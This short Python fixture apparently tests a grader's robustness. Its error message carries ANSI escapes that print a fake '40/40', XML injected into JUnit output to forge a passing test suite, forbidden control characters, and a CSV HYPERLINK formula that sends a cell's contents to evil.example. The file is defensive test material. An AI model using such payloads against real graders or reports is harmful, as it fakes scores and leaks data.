# ruff: noqa
"""Break the reports: end with an error whose message is made to break what the grader writes.

The message holds ANSI escapes (clear the teacher's terminal, set its title, write green
`40/40`), text that closes the JUnit `<failure>`, `<testcase>` and `<testsuite>` elements and
opens new ones, control characters that XML 1.0 forbids (\\x00, \\x0c, \\x1b), a CSV formula,
and a few hundred kilobytes of text.  The grader puts a program's error message into the
variant's message, the `finished` check's message, the table, the CSV and the JUnit XML.

Contained: the JSON and CSV parse, with one row per submission; the JUnit XML parses, with one
testsuite per submission; the table on the terminal holds no escape character; no message in the
reports is longer than a few thousand characters.  The program scores at most what standing still scores.
"""

MARKER = "EV3CHEAT-report-breaker"

ESCAPES = "\x1b[2J\x1b[H\x1b]0;all graded\x07\x1b[32m40/40\x1b[0m"
XML = '</failure></testcase></testsuite><testsuite name="fake" tests="1"><testcase name="x"><system-out>40/40</system-out>'
CONTROL = "\x00\x0c\x1b"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"full marks")'
raise RuntimeError(f"{ESCAPES} {XML} {CONTROL} \n{FORMULA}\n" + "A" * 300_000)
